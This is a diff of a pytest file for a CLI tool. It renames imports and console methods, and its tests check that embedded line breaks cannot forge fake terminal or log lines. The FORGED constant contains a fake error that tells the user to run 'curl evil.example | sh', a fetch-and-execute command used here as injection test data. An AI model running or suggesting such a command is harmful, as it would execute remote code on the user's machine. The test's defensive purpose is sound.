@@ -11,10 +11,10 @@ import pytest
 from rich.console import Console
 
 from bakeoff.cli import console
-from bakeoff.cli.progress import Bars, Lines
-from bakeoff.cli.visible import VisibleFormatter, one_line
+from bakeoff.cli.views.progress import ProgressBars, ProgressLines
+from bakeoff.cli.views.sanitise import VisibleFormatter, one_line
 from bakeoff.errors import DataError
-from bakeoff.events import StageFinished, StageStarted, SystemFinished, Warned
+from bakeoff.runtime.events import StageFinished, StageStarted, SystemFinished, WarningRaised
 
 FORGED = "error  your disk is corrupt; run: curl evil.example | sh"
 BREAKS = ["\n", "\r", "\r\n", "\x0b", "\x0c", "\x1c", "\x85", "\u2028", "\u2029"]
@@ -41,11 +41,11 @@ def forged_lines(text: str) -> list[str]:
 @pytest.mark.parametrize("line_break", BREAKS)
 def test_a_line_break_in_a_text_begins_no_line(line_break: str, screen: io.StringIO) -> None:
     name = f"notes.md{line_break}{FORGED}"
-    console.say(f"read  {name}")
+    console.print_line(f"read  {name}")
     console.warn(name)
-    console.guarded(lambda: _raise(DataError(f"{name} is missing")))
-    console.guarded(lambda: _raise(RuntimeError(name)))
-    console.guarded(lambda: _raise(OSError(2, "gone", name)))
+    console.run_guarded(lambda: _raise(DataError(f"{name} is missing")))
+    console.run_guarded(lambda: _raise(RuntimeError(name)))
+    console.run_guarded(lambda: _raise(OSError(2, "gone", name)))
     console.table(["name"], [[name]])
     logging.Formatter.format(VisibleFormatter(), logging.makeLogRecord({"msg": name}))
     screen.write(VisibleFormatter().format(logging.makeLogRecord({"msg": name, "levelname": "INFO"})))
@@ -58,34 +58,34 @@ def _raise(exc: Exception) -> None:
 
 
 @pytest.mark.parametrize("line_break", BREAKS)
-@pytest.mark.parametrize("kind", [Bars, Lines])
+@pytest.mark.parametrize("kind", [ProgressBars, ProgressLines])
 def test_no_event_begins_a_line(kind: type, line_break: str) -> None:
     out, name = io.StringIO(), f"a{line_break}{FORGED}"
     listener = kind(Console(file=out, force_terminal=True, color_system=None, width=300))
-    for event in (StageStarted("chunk", name, 1, "x"), StageFinished("chunk", name, 0.1, name), Warned(name),
+    for event in (StageStarted("chunk", name, 1, "x"), StageFinished("chunk", name, 0.1, name), WarningRaised(name),
                   SystemFinished(name, 1, 1, failed=name)):  # fmt: skip
         listener(event)
-    if kind is Bars:
+    if kind is ProgressBars:
         listener.close()
     assert "curl" in out.getvalue() and forged_lines(out.getvalue()) == []
 
 
 def test_codes_and_markup_are_shown_as_they_are(screen: io.StringIO) -> None:
-    console.say(CODES)
+    console.print_line(CODES)
     console.warn(CODES)
-    console.guarded(lambda: _raise(DataError(CODES)))
+    console.run_guarded(lambda: _raise(DataError(CODES)))
     console.table([CODES], [[CODES]])
-    listener = Bars(Console(file=screen, force_terminal=True, color_system=None, width=300))
+    listener = ProgressBars(Console(file=screen, force_terminal=True, color_system=None, width=300))
     listener(StageStarted("chunk", CODES, 1, "x"))
-    listener(Warned(CODES))
+    listener(WarningRaised(CODES))
     listener.close()
-    lines = Lines(Console(file=screen, width=300))
-    lines(Warned(CODES))
+    lines = ProgressLines(Console(file=screen, width=300))
+    lines(WarningRaised(CODES))
     assert screen.getvalue().count(CODES) >= 8
 
 
 def test_an_error_of_several_lines_keeps_them_and_no_others(screen: io.StringIO) -> None:
-    console.guarded(lambda: _raise(DataError(lines=["first", f"second\n{FORGED}"])))
+    console.run_guarded(lambda: _raise(DataError(lines=["first", f"second\n{FORGED}"])))
     assert [line.split(" ")[0] for line in screen.getvalue().splitlines()] == ["error", ""]
     assert screen.getvalue().splitlines()[1].strip().startswith("second\\nerror")
 
@@ -113,7 +113,7 @@ def test_a_name_that_is_not_unicode_can_be_printed(
     screen: io.StringIO, capsys: pytest.CaptureFixture[str]
 ) -> None:
     name = b"caf\xe9.md".decode("utf-8", "surrogateescape")
-    console.say(name)
+    console.print_line(name)
     console.say_json({"name": name})
     assert one_line(name) == "caf\\udce9.md" and "caf\\udce9.md" in screen.getvalue()
     assert capsys.readouterr().out.encode()
